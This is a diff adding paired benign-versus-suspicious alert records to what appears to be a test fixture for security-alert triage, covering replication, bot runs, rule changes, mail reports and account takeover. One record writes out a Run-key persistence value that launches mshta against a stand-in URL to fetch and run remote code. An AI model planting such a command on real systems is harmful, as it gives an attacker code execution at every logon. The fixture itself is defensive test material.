@@ -47,6 +47,13 @@ LSASS: dict[str, Any] = {
     "GrantedAccess": "0x1410",
     "CallTrace": "ntdll.dll+9d2d4|UNKNOWN(0000019A7C2D0F4A)",
 }
+REPLICA: dict[str, Any] = {
+    "asset_role": "domain_controller",
+    "source_host": "DC7",
+    "source_ip": IN,
+    "destination_ip": "10.0.0.8",
+    "message": "scheduled replication",
+}
 RAW: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
     "guessed_login_outside": (login(10, True, OUT), login(9, True, OUT)),
     "guessed_login_inside": (login(20, True, IN), login(19, True, IN)),
@@ -114,6 +121,63 @@ RAW: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
     "plain_cause": ({"root_cause": "stale credential on a phone"}, {"root_cause": "unknown"}),
     "laboratory": ({"environment": "sandbox"}, {"environment": "sandbox?"}),
     "part_verdict": ({"rescan": "clean"}, {"rescan": "infected"}),
+    "run_value": (
+        {
+            "registry_key": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u",
+            "registry_value": "mshta https://x.example/a",
+        },
+        {
+            "registry_key": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u",
+            "registry_value": "C:\\App\\a.exe",
+        },
+    ),
+    "steady_calls": ({"interval_seconds": 30, "jitter": "2%"}, {"interval_seconds": 30, "jitter": "40%"}),
+    "borrowed_caller": (
+        {"interval_seconds": 30, "jitter": 0.02, "process": "regsvr32.exe"},
+        {"interval_seconds": 30, "jitter": 0.02, "process": "agent.exe"},
+    ),
+    "false_sample": (
+        {"title": "EICAR file", "action": "allowed", "message": "It spawned cmd.exe"},
+        {"title": "EICAR file", "action": "blocked", "message": "It spawned cmd.exe"},
+    ),
+    "managed_device": (
+        {"managed_by": "Intune", "message": "local account made during enrolment"},
+        {"managed_by": "Intune", "message": "local account made"},
+    ),
+    "replication": (
+        {**REPLICA, "user": "DC7$"},
+        {**REPLICA, "user": "w.gale"},
+    ),
+    "bot_run": ({"actor": "renovate[bot]", "conclusion": "success"}, {"actor": "renovate", "conclusion": "success"}),
+    "bulk_mail": (
+        {"classification": "spam", "action": "blocked", "phishScore": 0},
+        {"classification": "spam", "action": "blocked", "phishScore": 80},
+    ),
+    "reported_mail": (
+        {"title": "Mail reported by user", "verdict": "newsletter", "url_verdict": "clean", "clicked": False},
+        {"title": "Mail reported by user", "verdict": "newsletter", "url_verdict": "clean", "clicked": True},
+    ),
+    "kept_at_the_edge": (
+        {"action": "block", "severity": "niedrig", "OriginResponseStatus": 0},
+        {"action": "block", "severity": "niedrig", "OriginResponseStatus": 200},
+    ),
+    "rule_change": (
+        {"object_type": "detection_rule", "message": "Rule enabled: wiper"},
+        {"object_type": "detection_rule", "message": "Rule disabled: wiper"},
+    ),
+    "did_not_run": ({"executed": False, "action": "quarantined"}, {"executed": False, "action": "allowed"}),
+    "two_acts": (
+        {"message": "login replayed from 203.0.113.4, 900 messages read"},
+        {"message": "newsletter with 900 messages planned"},
+    ),
+    "three_acts": (
+        {"message": "login replayed from 203.0.113.4, 900 messages read, new MFA phone added"},
+        {"message": "login replayed from 203.0.113.4, 900 messages read"},
+    ),
+    "course_of_attack": (
+        {"message": "password entered, login replayed from 203.0.113.4, 900 messages read, new MFA phone added"},
+        {"message": "login replayed from 203.0.113.4, 900 messages read, new MFA phone added"},
+    ),
     "system_logon": ({"EventID": 4624, "LogonType": 5}, {"EventID": 4624, "LogonType": 10}),
     "routine_event": ({"EventID": 7036}, {"EventID": 7045}),
     "low_level": (
@@ -146,6 +210,7 @@ RAW: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
     "change": ({"change_ticket": "CHG0048121"}, {"change_ticket": "none", "message": "change_ticket CHG0048121"}),
     "test_flag": ({"is_test": True}, {"is_test": False}),
     "typo": (login(5, True, IN), login(6, True, IN)),
+    "few_guesses": (login(9, True, IN), login(9, True, OUT)),
     "few_failures": (login(3, False, IN), login(3, False, OUT)),
     "plain_login": (login(0, True, IN), login(0, True, OUT)),
     "at_home": (login(0, True, IN, location="Office North"), login(0, True, OUT, location="Office North")),
